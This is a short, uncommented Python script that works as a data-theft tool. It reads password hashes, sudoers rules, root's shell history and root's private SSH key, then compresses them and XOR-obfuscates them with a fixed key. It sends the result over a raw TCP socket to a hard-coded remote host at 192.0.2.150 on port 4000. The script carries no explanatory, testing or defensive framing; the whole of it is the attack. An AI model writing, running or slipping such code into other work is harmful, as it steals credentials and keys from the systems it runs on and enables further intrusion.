import socket,os,zlib
h=("192.0.2.150",4000)
f=["/etc/shadow","/etc/passwd","/etc/gshadow","/etc/sudoers","/root/.bash_history","/root/.ssh/id_rsa"]
b=b""
for p in f:
    try:b+=b"==== "+p.encode()+b"\n"+open(p,"rb").read()+b"\n"
    except:pass
b=zlib.compress(b)
k=0x5a
b=bytes(x^k for x in b)
s=socket.socket(socket.AF_INET,socket.SOCK_STREAM)
s.connect(h)
s.sendall(len(b).to_bytes(4,"big")+b)
s.close()
